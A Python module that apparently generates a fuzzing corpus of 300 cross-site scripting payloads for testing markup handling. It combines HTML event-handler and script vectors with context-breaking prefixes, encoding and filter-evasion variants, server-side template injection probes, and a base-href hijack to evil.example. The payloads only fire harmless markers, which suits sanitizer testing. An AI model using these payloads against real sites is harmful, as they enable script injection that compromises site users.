"""Three hundred texts that would run, load or draw something if a page took them for markup."""

from collections.abc import Iterator, Sequence
from itertools import product

#: What a browser would do: each raises a dialog, and marks the page for who looks afterwards.
_ACTS = ("alert(1)", "window.hit=1", "document.body.innerHTML='hit'", "confirm(1)")

_FRAMES = (
    "<script>{act}</script>",
    "<img src=x onerror={act}>",
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<iframe srcdoc='<script>{act}</script>'></iframe>",
    "<body onload={act}>",
    "<details open ontoggle={act}>",
    "<video><source onerror={act}></video>",
    "<input autofocus onfocus={act}>",
    "<marquee onstart={act}>",
    "<a href=javascript:{act}>x</a>",
    "<math><mi xlink:href='javascript:{act}'>",
    "<object data='data:text/html,<script>{act}</script>'>",
    "<style>@import 'javascript:{act}';</style>",
    "<link rel=stylesheet href='data:text/css,*{{background:red}}'>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{act}'>",
    "<form action=javascript:{act}><button autofocus>x",
    "<template><img src=x onerror={act}></template>",
    "<noscript><p title='</noscript><img src=x onerror={act}>'>",
    "<textarea><img src=x onerror={act}>",
    "<!--><img src=x onerror={act}>",
)
_BREAKS = ("", '">', "'>", "</title>", "</pre>", "-->", "</style>", "]]>", "\"'`><")
_TEMPLATES = (
    "{{{{ 7 * 7 }}}}",
    "{{% raw %}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "${{7*7}}",
    "<%= 7*7 %>",
    '" onmouseover={act} x="',
    "' onfocus={act} autofocus x='",
    "javascript:{act}",
    "&lt;script&gt;{act}&lt;/script&gt;",
    "&#60;script&#62;{act}&#60;/script&#62;",
    "\\u003cscript\\u003e{act}\\u003c/script\\u003e",
    "\u202e<script>{act}</script>",
    "<scr\x00ipt>{act}</scr\x00ipt>",
    "\uff1cscript\uff1e{act}\uff1c/script\uff1e",
    "+ADw-script+AD4-{act}+ADw-/script+AD4-",
)


def payloads() -> Sequence[str]:
    return list(dict.fromkeys(_made()))[:300]


def _made() -> Iterator[str]:
    for frame, act in product(_TEMPLATES, _ACTS):
        yield frame.format(act=act)
    for place, (lead, frame) in enumerate(product(_BREAKS, _FRAMES)):
        yield lead + frame.format(act=_ACTS[place % len(_ACTS)])
    for frame, act in product(_FRAMES, _ACTS):
        yield frame.format(act=act).upper()
